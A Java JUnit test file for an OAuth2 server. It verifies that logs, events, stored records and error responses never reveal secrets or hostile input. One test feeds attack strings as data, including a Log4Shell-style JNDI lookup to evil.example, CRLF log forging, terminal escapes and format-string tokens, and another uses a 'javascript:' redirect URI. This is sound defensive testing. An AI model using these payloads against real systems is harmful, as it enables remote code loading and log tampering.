// SPDX-License-Identifier: Apache-2.0
package org.oauth2server.scenarios.cases;

import static org.assertj.core.api.Assertions.assertThat;
import static org.oauth2server.scenarios.cases.Scene.TOKEN;
import static org.oauth2server.scenarios.cases.Scene.WEB;
import static org.oauth2server.scenarios.cases.Scene.asking;
import static org.oauth2server.scenarios.cases.Scene.redeeming;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.oauth2server.event.ServerEvent;
import org.oauth2server.http.HttpResponse;
import org.oauth2server.model.ClientSecret;
import org.oauth2server.model.Secret;
import org.oauth2server.registration.ClientRegistration;
import org.oauth2server.store.GrantQuery;
import org.oauth2server.store.IssuanceQuery;
import org.oauth2server.store.PageRequest;
import org.oauth2server.store.StoreConfig;
import org.oauth2server.store.StoreException;
import org.oauth2server.store.StoreUnavailableException;

/** Nothing that can be logged holds a secret. */
class SilenceTest {
    private final Scene scene = new Scene();
    private final List<String> printed = new ArrayList<>();
    private final List<String> secrets = new ArrayList<>();

    private void print(Object anything) {
        printed.add(String.valueOf(anything));
    }

    private void playEverything() {
        ClientRegistration chosen =
                Scene.code("chosen").redirectUris(Scene.CALLBACK).secret(Secret.of("sentinel chosen secret"));
        print(chosen);
        print(scene.server.register(chosen));
        print(scene.server.replaceSecret(scene.client(Scene.OTHER).id()));
        Browser browser = scene.browser().open(asking().with("scope", "read write"));
        HttpResponse granted = browser.decide(interaction -> {
            print(interaction);
            return interaction.grant(Scene.USER);
        });
        print(granted);
        String code = Expect.query(String.valueOf(granted.headers().first("Location")))
                .get("code");
        Tokens first = tokens(scene.token(WEB, redeeming(code)));
        Tokens second = tokens(scene.refresh(WEB, first.refresh()));
        print(scene.introspect(Scene.API, second.access()));
        print(scene.access(second.access(), "read"));
        print(scene.access(second.access(), "admin"));
        print(scene.revoke(WEB, second.access()));
        print(scene.token(WEB, redeeming(code)));
        scene.clock.advance(Duration.ofMinutes(1));
        print(scene.refresh(WEB, first.refresh()));
        print(scene.by(WEB, TOKEN, redeeming(code)));
        for (int k = 1; k <= 3; k++) {
            scene.watcher.fail(k, true, () -> new StoreException("broken", null));
            print(scene.token(WEB, redeeming(code)));
        }
        secrets.addAll(List.of(code, first.access(), first.refresh(), second.access(), second.refresh()));
        secrets.addAll(List.of(
                browser.handle(), browser.cookie().substring(browser.cookie().indexOf('=') + 1)));
        secrets.addAll(List.of(Scene.VERIFIER, scene.secret(WEB), scene.secret(Scene.API), "sentinel"));
    }

    private Tokens tokens(HttpResponse response) {
        print(response);
        return Tokens.of(response);
    }

    private void printRecords() {
        scene.store.administration().clients("", PageRequest.first(100)).items().forEach(client -> {
            print(client);
            client.secrets().stream().map(ClientSecret::hash).forEach(secrets::add);
        });
        scene.store
                .administration()
                .grants(GrantQuery.subject(Scene.USER), PageRequest.first(100))
                .items()
                .forEach(this::print);
        scene.store
                .administration()
                .issuances(IssuanceQuery.subject(Scene.USER), PageRequest.first(100))
                .items()
                .forEach(this::print);
        print(StoreConfig.of("jdbc:postgresql://user:sentinel@host/db?password=sentinel"));
    }

    private void printEvents() {
        for (ServerEvent event : scene.events) {
            print(event);
            if (event instanceof ServerEvent.Failed failed) {
                StringWriter trace = new StringWriter();
                failed.cause().printStackTrace(new PrintWriter(trace));
                print(trace);
            }
        }
    }

    @Tag("LG-01")
    @Tag("LG-02")
    @Tag("RO2S-6")
    @Test
    void no_event_no_record_and_no_exception_shows_a_secret() {
        playEverything();
        printRecords();
        printEvents();

        assertThat(scene.events).hasSizeGreaterThan(10);
        assertThat(scene.told(ServerEvent.Failed.class)).isNotEmpty();
        assertThat(secrets).hasSizeGreaterThan(15).doesNotContain("");
        for (String secret : secrets) {
            assertThat(printed).noneMatch(text -> text.contains(secret));
        }
    }

    @Tag("LG-02")
    @ParameterizedTest
    @ValueSource(
            strings = {"https://rp.example.com/sentinel cb", "javascript:sentinel", "https://sentinel@rp.example.com/"})
    void a_refused_registration_does_not_repeat_what_it_refuses(String uri) {
        try {
            scene.server.register(Scene.code("new").redirectUris(uri).secret(Secret.of("sentinel")));
        } catch (IllegalArgumentException e) {
            print(e);
        }

        assertThat(printed).singleElement().asString().doesNotContain("sentinel");
    }

    @Tag("LG-03")
    @ParameterizedTest
    @ValueSource(strings = {"a\r\nforged line", "\u001b[2J", "${jndi:ldap://evil.example/x}", "{}", "%s%n", "\u202e"})
    void what_an_attacker_writes_is_in_no_event(String hostile) {
        scene.authorize(asking().with("client_id", hostile));
        scene.authorize(asking().with("redirect_uri", hostile));
        scene.authorize(asking().with("scope", hostile));
        scene.server.handle(Scene.post(
                TOKEN,
                Params.of("grant_type", hostile, "client_id", hostile, "client_secret", hostile)
                        .encoded()));
        scene.introspect(Scene.API, hostile);
        scene.revoke(WEB, hostile);

        assertThat(scene.events).hasSizeGreaterThanOrEqualTo(4);
        assertThat(scene.events).noneMatch(event -> event.toString().contains(hostile));
        assertThat(scene.events).allMatch(event -> event.toString().chars().noneMatch(Character::isISOControl));
    }

    @Tag("SV-09")
    @Tag("DS-12")
    @Test
    void whatever_is_thrown_becomes_an_answer_without_its_trace() {
        for (RuntimeException exception : List.of(
                new IllegalStateException("sentinel"),
                new StoreUnavailableException("sentinel", null),
                new NullPointerException())) {
            scene.watcher.fail(1, false, () -> exception);
            HttpResponse response = scene.token(WEB, redeeming("x"));

            assertThat(response.status()).isIn(500, 503);
            assertThat(response.text()).doesNotContain("sentinel", "xception", "at org.");
            assertThat(response.headers().first("X-Incident")).matches("[a-z0-9]+");
        }
        HttpResponse page = scene.browser().open(asking()).decide(interaction -> {
            throw new StackOverflowError();
        });
        Expect.page(page, 500);
        assertThat(scene.token(Scene.MACHINE, Params.of("grant_type", "client_credentials"))
                        .status())
                .isEqualTo(200);
    }

    @Tag("SV-09")
    @Test
    void a_listener_that_throws_changes_nothing() {
        Scene loud = new Scene(config -> config.listener(event -> {
            throw new IllegalStateException("full disk");
        }));

        assertThat(loud.token(Scene.MACHINE, Params.of("grant_type", "client_credentials"))
                        .status())
                .isEqualTo(200);
        Expect.refused(loud.token(Scene.MACHINE, Params.of()), 400, "invalid_request");
    }
}
